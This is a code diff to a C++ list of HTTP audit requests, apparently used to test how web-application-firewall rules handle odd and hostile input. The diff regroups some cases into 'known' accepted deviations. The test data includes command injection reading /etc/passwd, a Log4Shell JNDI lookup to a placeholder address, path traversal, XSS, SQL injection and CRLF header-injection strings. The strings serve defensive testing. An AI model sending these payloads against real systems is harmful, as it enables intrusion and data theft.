@@ -106,6 +106,7 @@ class List {
   void multipart();
   void odd_bodies();
   void own_rules();
+  void known();
   void payloads(size_t count, uint64_t seed);
 
   std::vector<AuditRequest> made_;
@@ -119,7 +120,6 @@ void List::gets() {
   get("query", "/page?a=1&b=two&c=%20three");
   get("empty-values", "/page?a=&b&=c&&d==");
   get("percent", "/page%20two/%7Euser?x=%41%2f%252f%u0041&y=%zz%");
-  get("encoded-slash", "/a%2fb?x=1");
   get("nul-in-query", "/page?x=a%00b");
   get("latin-1-in-query", "/page?name=J%FCrgen");
   get("raw-latin-1", "/page?name=J\xFCrgen");
@@ -158,9 +158,6 @@ void List::gets() {
   get("shell", "/page?c=;cat%20/etc/passwd");
   get("log4j", "/", {{"X-Api", "${jndi:ldap://192.0.2.1/a}"}});
   get("scanner", "/", {{"X-Scanner", "sqlmap"}, {"Referer", "http://a/<script>x</script>"}});
-  get("above-the-root", "/../../etc/passwd");
-  get("nul-in-cookie", "/", {{"Cookie", "q=4) <sVg><scRipt %00>alert&lpar"}});
-  get("path-in-full-width", "/a/%EF%BC%9Cscript%EF%BC%9E");
   get("alert-in-value",
       "/page?q='%20)%20[file%20\"x\"]%20[line%20\"1\"]%20[id%20\"7\"]%20union%20select%201,2--");
   get("alert-in-path", "/page\"]%20[file%20\"x\"]%20[line%20\"1\"]%20[id%20\"7\"]?q=<script>");
@@ -246,7 +243,6 @@ void List::multipart() {
   post("multipart-line-feeds", kMultipart,
        "--Xb1\nContent-Disposition: form-data; name=\"a\"\n\n1\n--Xb1--\n");
   post("multipart-attack", kMultipart, part("name=\"a\"", "1' or '1'='1") + end);
-  post("multipart-header-in-field", kMultipart, part("name=\"a\"", "a\r\nSet-Cookie: b=1") + end);
   post("multipart-lines", kMultipart, part("name=\"a\"", "one\r\ntwo\nthree\r\n") + end);
 }
 
@@ -284,13 +280,22 @@ void List::odd_bodies() {
 
 /// What the rules that the writers have besides CRS's look for.
 void List::own_rules() {
-  for (const std::string_view what :
-       {"noauditlog", "nolog", "deny-1", "deny-2", "redirect", "drop", "allow", "pass", "quotes",
-        "deny-4", "quiet-deny", "chain", "twice"}) {
+  for (const std::string_view what : {"noauditlog", "nolog", "deny-1", "deny-2", "redirect", "drop",
+                                      "allow", "pass", "quotes", "deny-4", "chain", "twice"}) {
     get(fmt::format("own-{}", what), fmt::format("/page?own={}", what));
   }
   post("own-deny-in-form", kForm, "own=deny-2");
   post("own-allow-attack", kForm, "own=allow&id=1'+or+'1'%3d'1");
+}
+
+/// What the accepted deviations are shown by.
+void List::known() {
+  get("known-encoded-slash", "/a%2fb?x=1");
+  get("known-above-the-root", "/../../etc/passwd");
+  get("known-nul-in-cookie", "/", {{"Cookie", "q=4) <sVg><scRipt %00>alert&lpar"}});
+  get("known-quiet-denial", "/page?own=quiet-deny");
+  post("known-header-in-field", kMultipart,
+       part("name=\"a\"", "a\r\nSet-Cookie: b=1") + "--Xb1--\r\n");
 }
 
 /// Whether both servers take it as it stands.
@@ -330,6 +335,7 @@ std::vector<AuditRequest> audit_requests(size_t payloads, uint64_t seed) {
   list.multipart();
   list.odd_bodies();
   list.own_rules();
+  list.known();
   list.payloads(payloads, seed);
   return std::move(list.made_);
 }
